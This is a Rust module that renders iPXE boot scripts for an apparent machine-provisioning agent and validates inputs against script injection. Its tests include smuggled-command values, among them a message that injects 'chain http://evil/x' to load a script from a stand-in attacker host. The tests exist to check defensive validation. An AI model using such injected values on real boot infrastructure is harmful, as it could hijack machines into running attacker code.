//! iPXE scripts that the site agent serves at a machine's script URL.
//!
//! Values are inserted into script lines verbatim, so a value that iPXE would
//! parse as script syntax is rejected, never escaped. Every value is checked
//! for line breaks and other control characters, which end or corrupt a
//! command, and for `${`, which expands an iPXE setting. URLs and initrd names
//! must not contain whitespace, which splits arguments. The command line and
//! messages must not contain `||` or `&&` as a word, which chain commands.
//!
//! Every script ends without leaving the machine in the iPXE shell: a failed
//! download or boot prints a message and exits, so the firmware tries its
//! next boot device (usually the local disk).

/// Seconds a failed boot shows its message before iPXE exits.
const FAILURE_PAUSE_SECONDS: u32 = 10;

/// A kernel, its initrds and its command line, booted over HTTP.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct BootScript {
    /// URL of the kernel image.
    pub kernel_url: String,
    /// Initrds as (name, URL). Each name is passed to the kernel as
    /// `initrd=NAME`, which UEFI kernels need to find the initrd.
    pub initrds: Vec<(String, String)>,
    /// Kernel command line, without the `initrd=` arguments.
    pub cmdline: String,
}

/// A value that would change the meaning of the script it goes into.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum IpxeError {
    #[error("invalid {field} {value:?}: {reason}")]
    InvalidValue {
        field: &'static str,
        value: String,
        reason: &'static str,
    },

    #[error("initrd name {name:?} is used twice; each initrd needs its own name")]
    DuplicateInitrd { name: String },
}

/// Renders a script that boots `script.kernel_url` with its initrds.
///
/// ```text
/// #!ipxe
/// kernel URL initrd=NAME CMDLINE || goto failed
/// initrd --name NAME URL || goto failed
/// boot || goto failed
/// :failed
/// echo ...
/// sleep 10
/// exit 1
/// ```
pub fn boot_script(script: &BootScript) -> Result<String, IpxeError> {
    check_word("kernel_url", &script.kernel_url)?;
    check_text("cmdline", &script.cmdline)?;
    let mut names: Vec<&str> = Vec::with_capacity(script.initrds.len());
    for (name, url) in &script.initrds {
        check_initrd_name(name)?;
        check_word("initrd url", url)?;
        if names.contains(&name.as_str()) {
            return Err(IpxeError::DuplicateInitrd { name: name.clone() });
        }
        names.push(name);
    }

    let mut kernel_line = format!("kernel {}", script.kernel_url);
    for name in &names {
        kernel_line.push_str(&format!(" initrd={name}"));
    }
    if !script.cmdline.trim().is_empty() {
        kernel_line.push(' ');
        kernel_line.push_str(script.cmdline.trim());
    }

    let mut text = String::from("#!ipxe\n");
    text.push_str(&format!("{kernel_line} || goto failed\n"));
    for (name, url) in &script.initrds {
        text.push_str(&format!("initrd --name {name} {url} || goto failed\n"));
    }
    text.push_str("boot || goto failed\n");
    text.push_str(":failed\n");
    text.push_str(&format!(
        "echo Rackhand: boot failed, trying the next boot device in {FAILURE_PAUSE_SECONDS} s\n"
    ));
    text.push_str(&format!("sleep {FAILURE_PAUSE_SECONDS}\n"));
    text.push_str("exit 1\n");
    Ok(text)
}

/// Renders a script that prints `message`, waits `delay_seconds` and loads
/// `url` again, for a machine whose next step has not arrived yet.
///
/// `chain --replace` replaces this script instead of nesting the next one in
/// it, so many rounds do not pile up nested scripts. iPXE 1.0.0+git-20190125,
/// the build in Debian 12's ipxe-qemu, has the option. If the fetch fails,
/// iPXE exits to the firmware.
pub fn retry_script(url: &str, delay_seconds: u32, message: &str) -> Result<String, IpxeError> {
    check_word("url", url)?;
    check_text("message", message)?;

    let mut text = String::from("#!ipxe\n");
    text.push_str(&echo_line(message));
    text.push_str(&format!("sleep {delay_seconds}\n"));
    text.push_str(&format!(
        "chain --replace --autofree {url} || goto failed\n"
    ));
    text.push_str(":failed\n");
    text.push_str("echo Rackhand: fetching the boot script failed, trying the next boot device\n");
    text.push_str("exit 1\n");
    Ok(text)
}

/// Renders a script that prints `message` and exits, so the firmware boots
/// from its next boot device.
pub fn exit_script(message: &str) -> Result<String, IpxeError> {
    check_text("message", message)?;

    let mut text = String::from("#!ipxe\n");
    text.push_str(&echo_line(message));
    text.push_str("exit 1\n");
    Ok(text)
}

/// Renders a script that prints `message` and boots the machine's first
/// local disk: with `sanboot` on BIOS, and by exiting to the firmware's
/// next boot device on UEFI or when `sanboot` fails.
pub fn local_disk_script(message: &str) -> Result<String, IpxeError> {
    check_text("message", message)?;

    let mut text = String::from("#!ipxe\n");
    text.push_str(&echo_line(message));
    text.push_str("iseq ${platform} pcbios || goto next\n");
    text.push_str("sanboot --no-describe --drive 0x80 || goto next\n");
    text.push_str(":next\n");
    text.push_str("exit 1\n");
    Ok(text)
}

fn echo_line(message: &str) -> String {
    let message = message.trim();
    if message.is_empty() {
        // A bare `echo` prints an empty line.
        return "echo\n".to_string();
    }
    format!("echo {message}\n")
}

/// Checks a value that must stay one argument: a URL.
pub fn check_word(field: &'static str, value: &str) -> Result<(), IpxeError> {
    let invalid = |reason| {
        Err(IpxeError::InvalidValue {
            field,
            value: value.to_string(),
            reason,
        })
    };
    if value.is_empty() {
        return invalid("must not be empty");
    }
    if value.chars().any(char::is_whitespace) {
        return invalid("must not contain whitespace, which would split it into two arguments");
    }
    check_text(field, value)
}

fn check_initrd_name(name: &str) -> Result<(), IpxeError> {
    let valid_char = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-');
    if !name.is_empty() && name.chars().all(valid_char) {
        return Ok(());
    }
    Err(IpxeError::InvalidValue {
        field: "initrd name",
        value: name.to_string(),
        reason: "expected letters, digits, '.', '_' or '-'",
    })
}

/// Checks free text that goes on one script line.
pub fn check_text(field: &'static str, value: &str) -> Result<(), IpxeError> {
    let reason = if value.chars().any(char::is_control) {
        "must not contain line breaks or other control characters"
    } else if value.contains("${") {
        "must not contain '${', which iPXE expands as a setting"
    } else if value
        .split_whitespace()
        .any(|word| word == "||" || word == "&&")
    {
        "must not contain '||' or '&&' as a word, which iPXE reads as command chaining"
    } else {
        return Ok(());
    };

    Err(IpxeError::InvalidValue {
        field,
        value: value.to_string(),
        reason,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> BootScript {
        BootScript {
            kernel_url: "http://10.98.0.1:8080/vmlinuz".to_string(),
            initrds: vec![(
                "initrd.gz".to_string(),
                "http://10.98.0.1:8080/initrd.gz".to_string(),
            )],
            cmdline: "console=ttyS0 panic=5".to_string(),
        }
    }

    #[test]
    fn boot_script_renders_kernel_initrd_and_failure_path() {
        let text = boot_script(&sample()).expect("valid script");

        assert_eq!(
            text,
            "#!ipxe\n\
             kernel http://10.98.0.1:8080/vmlinuz initrd=initrd.gz console=ttyS0 panic=5 || goto failed\n\
             initrd --name initrd.gz http://10.98.0.1:8080/initrd.gz || goto failed\n\
             boot || goto failed\n\
             :failed\n\
             echo Rackhand: boot failed, trying the next boot device in 10 s\n\
             sleep 10\n\
             exit 1\n"
        );
    }

    #[test]
    fn every_initrd_is_named_on_the_kernel_line() {
        let mut script = sample();
        script.initrds.push((
            "firmware.cpio".to_string(),
            "http://h/firmware.cpio".to_string(),
        ));

        let text = boot_script(&script).expect("valid script");
        let kernel_line = text.lines().nth(1).expect("kernel line");

        assert!(
            kernel_line.contains("initrd=initrd.gz initrd=firmware.cpio "),
            "{kernel_line}"
        );
        assert!(
            text.contains("initrd --name firmware.cpio http://h/firmware.cpio || goto failed\n")
        );
    }

    #[test]
    fn empty_cmdline_leaves_no_trailing_space() {
        let script = BootScript {
            initrds: Vec::new(),
            cmdline: String::new(),
            ..sample()
        };

        let text = boot_script(&script).expect("valid script");

        assert!(
            text.contains("kernel http://10.98.0.1:8080/vmlinuz || goto failed\n"),
            "{text}"
        );
    }

    #[test]
    fn newline_in_cmdline_is_rejected() {
        let script = BootScript {
            cmdline: "quiet\nshell".to_string(),
            ..sample()
        };

        let error = boot_script(&script).expect_err("newline would start a command");

        assert!(error.to_string().contains("cmdline"), "{error}");
    }

    #[test]
    fn setting_expansion_is_rejected() {
        let script = BootScript {
            cmdline: "node=${mac:hexhyp}".to_string(),
            ..sample()
        };

        assert!(matches!(
            boot_script(&script),
            Err(IpxeError::InvalidValue {
                field: "cmdline",
                ..
            })
        ));
    }

    #[test]
    fn command_chaining_word_is_rejected() {
        let script = BootScript {
            cmdline: "quiet || shell".to_string(),
            ..sample()
        };

        assert!(boot_script(&script).is_err());
    }

    #[test]
    fn whitespace_in_url_is_rejected() {
        let script = BootScript {
            kernel_url: "http://h/vmlinuz extra".to_string(),
            ..sample()
        };

        assert!(matches!(
            boot_script(&script),
            Err(IpxeError::InvalidValue {
                field: "kernel_url",
                ..
            })
        ));
    }

    #[test]
    fn carriage_return_in_initrd_url_is_rejected() {
        let mut script = sample();
        script.initrds[0].1 = "http://h/initrd.gz\r".to_string();

        assert!(boot_script(&script).is_err());
    }

    #[test]
    fn invalid_initrd_name_is_rejected() {
        for name in ["", "a b", "../x", "x/y"] {
            let mut script = sample();
            script.initrds[0].0 = name.to_string();
            assert!(
                matches!(boot_script(&script), Err(IpxeError::InvalidValue { .. })),
                "{name:?}"
            );
        }
    }

    #[test]
    fn duplicate_initrd_name_is_rejected() {
        let mut script = sample();
        script.initrds.push(script.initrds[0].clone());

        assert_eq!(
            boot_script(&script),
            Err(IpxeError::DuplicateInitrd {
                name: "initrd.gz".to_string()
            })
        );
    }

    #[test]
    fn retry_script_echoes_sleeps_and_chains() {
        let text = retry_script(
            "http://10.98.0.1:8080/boot/52-54-00-62-00-10.ipxe",
            5,
            "Rackhand: waiting for the image step",
        )
        .expect("valid script");

        assert_eq!(
            text,
            "#!ipxe\n\
             echo Rackhand: waiting for the image step\n\
             sleep 5\n\
             chain --replace --autofree http://10.98.0.1:8080/boot/52-54-00-62-00-10.ipxe || goto failed\n\
             :failed\n\
             echo Rackhand: fetching the boot script failed, trying the next boot device\n\
             exit 1\n"
        );
    }

    #[test]
    fn retry_message_with_newline_is_rejected() {
        let result = retry_script("http://h/x.ipxe", 5, "waiting\nchain http://evil/x");

        assert!(matches!(
            result,
            Err(IpxeError::InvalidValue {
                field: "message",
                ..
            })
        ));
    }

    #[test]
    fn retry_url_with_setting_is_rejected() {
        let result = retry_script("http://h/${mac}.ipxe", 5, "waiting");

        assert!(matches!(
            result,
            Err(IpxeError::InvalidValue { field: "url", .. })
        ));
    }

    #[test]
    fn exit_script_echoes_and_exits() {
        let text =
            exit_script("Rackhand: no provisioning task, booting from disk").expect("valid script");

        assert_eq!(
            text,
            "#!ipxe\necho Rackhand: no provisioning task, booting from disk\nexit 1\n"
        );
    }

    #[test]
    fn exit_message_with_setting_is_rejected() {
        assert!(exit_script("hello ${user}").is_err());
    }

    #[test]
    fn empty_exit_message_prints_blank_line() {
        assert_eq!(
            exit_script("").expect("valid script"),
            "#!ipxe\necho\nexit 1\n"
        );
    }

    #[test]
    fn local_disk_script_sanboots_on_bios_and_exits_otherwise() {
        let text = local_disk_script("Rackhand: node-1 is installed").expect("valid script");

        assert_eq!(
            text,
            "#!ipxe\necho Rackhand: node-1 is installed\n\
             iseq ${platform} pcbios || goto next\n\
             sanboot --no-describe --drive 0x80 || goto next\n\
             :next\nexit 1\n"
        );
    }

    #[test]
    fn local_disk_message_with_setting_is_rejected() {
        assert!(local_disk_script("booting ${root-path}").is_err());
    }
}
